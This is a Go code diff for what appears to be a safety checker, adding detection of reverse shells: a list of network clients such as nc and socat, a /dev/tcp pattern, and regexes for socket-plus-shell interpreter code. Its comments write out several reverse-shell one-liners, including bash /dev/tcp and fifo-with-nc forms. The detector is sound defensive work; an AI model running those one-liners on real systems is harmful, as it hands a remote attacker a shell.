@@ -4,6 +4,7 @@ import (
 	"slices"
 	"strings"
 
+	"github.com/gemini-guard/gemini-guard/internal/lazyregexp"
 	"github.com/gemini-guard/gemini-guard/internal/shell"
 )
 
@@ -30,6 +31,12 @@ func isRemoteShell(word string) bool {
 // EXEC:/SYSTEM: of a shell, gotty/ttyd serving a shell.
 func checkRemoteShell(c *Call) Finding {
 	name, args := c.Ex.Name, c.Args
+	if f := checkSocketShell(c); f.Hit {
+		return f
+	}
+	if f := checkCodeRemoteShell(c.Ex); f.Hit {
+		return f
+	}
 	switch name {
 	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat":
 		for i, a := range args {
@@ -77,12 +84,83 @@ func checkRemoteShell(c *Call) Finding {
 			}
 		}
 		if name == "tmate" || name == "tty-share" || name == "sshx" || name == "upterm" {
-			if len(args) == 0 || len(operands(args)) > 0 && slices.Contains([]string{"host", "new-session"}, operands(args)[0]) {
+			ops := operands(args)
+			if len(ops) == 0 && !hasArg(args, "-V", "--version", "-h", "--help") || len(ops) > 0 && slices.Contains([]string{"host", "new-session"}, ops[0]) {
 				return hit(name + " shares this terminal's shell with whoever has the link")
 			}
 		}
 	}
 	return Finding{}
+}
+
+// netPathRe is bash's network pseudo-path: /dev/tcp/host/port opens a
+// connection.
+var netPathRe = &lazyregexp.Regexp{Expr: `^/dev/(tcp|udp)/[^/]+/[^/]+$`}
+
+// socketClients are programs whose standard input goes to the network.
+var socketClients = []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "socat", "telnet", "openssl", "websocat", "cryptcat", "sbd"}
+
+// checkSocketShell: a shell or interpreter whose input or output is a
+// network connection: bash -i >& /dev/tcp/h/p 0>&1, exec 5<>/dev/tcp/h/p
+// then sh <&5 >&5, or a shell reading its input piped into a network
+// client (the fifo reverse shell: cat f | sh -i 2>&1 | nc h p > f).
+func checkSocketShell(c *Call) Finding {
+	ex := c.Ex
+	if slices.Contains(socketClients, ex.Name) && ex.Stdin != nil {
+		for _, p := range ex.Stdin.Producers {
+			if isRemoteShell(p.Name) && readsCommandsFromStdin(p) {
+				return hit(p.Name + " reads its commands from a pipe and sends its output through " + ex.Name + ": a shell for whoever is at the other end")
+			}
+		}
+	}
+	if !isRemoteShell(ex.Name) {
+		return Finding{}
+	}
+	// Descriptors opened on the network earlier in the command line
+	// (exec 5<>/dev/tcp/h/p), and by this command's own redirections.
+	netFds := map[string]bool{}
+	for _, e := range c.Res.Execs {
+		for _, r := range e.Redirs {
+			if netPathRe.MatchString(r.Target) && r.Fd != "" && (e == ex || e.Name == "exec" || e.Name == "") {
+				netFds[r.Fd] = true
+			}
+		}
+	}
+	for _, r := range ex.Redirs {
+		if netPathRe.MatchString(r.Target) || (r.Op == "<&" || r.Op == ">&" || r.Op == "<>") && netFds[r.Target] {
+			return hit(ex.Name + " is joined to a network connection (" + r.Op + " " + c.Show(r.Target) + "): a shell for whoever is at the other end")
+		}
+	}
+	return Finding{}
+}
+
+// readsCommandsFromStdin reports whether a shell or interpreter runs what
+// it reads on standard input: no -c and no script operand.
+func readsCommandsFromStdin(ex *shell.Exec) bool {
+	for _, a := range ex.Args[1:] {
+		if !strings.HasPrefix(a, "-") || a == "-c" || a == "-e" || a == "-m" {
+			return false
+		}
+	}
+	return true
+}
+
+var (
+	// codeSocketRe and codeShellRe find interpreter code that opens a
+	// network connection and hands it a shell (the reverse shells of
+	// every language: dup2 onto the socket then /bin/sh -i, exec of
+	// "/bin/sh -i <&3", popen of each line received).
+	codeSocketRe = &lazyregexp.Regexp{Expr: `(?i)(socket\.socket|\bsocket\s*\(|fsockopen|TCPSocket|net\.connect|net\.Socket|new\s+Socket|IO::Socket|Socket\.new|socket_create|dial\s*\()`}
+	codeShellRe  = &lazyregexp.Regexp{Expr: `(dup2|["'](/bin/)?(ba|z|da|k)?sh["']|/bin/(ba|z|da|k)?sh\b|\bsh\s+-i\b|cmd\.exe|popen\s*\(\s*\$_)`}
+)
+
+// checkCodeRemoteShell: interpreter code that connects a socket and runs
+// a shell on it.
+func checkCodeRemoteShell(ex *shell.Exec) Finding {
+	if len(ex.CodeLiterals) == 0 && shell.Interpreter(ex.Name) == "" || !codeSocketRe.MatchString(ex.Text) || !codeShellRe.MatchString(ex.Text) {
+		return Finding{}
+	}
+	return hit(ex.Name + " code opens a network connection and runs a shell on it: a shell for whoever is at the other end")
 }
 
 // checkHomeServed: a web server started on home, /, or a directory that
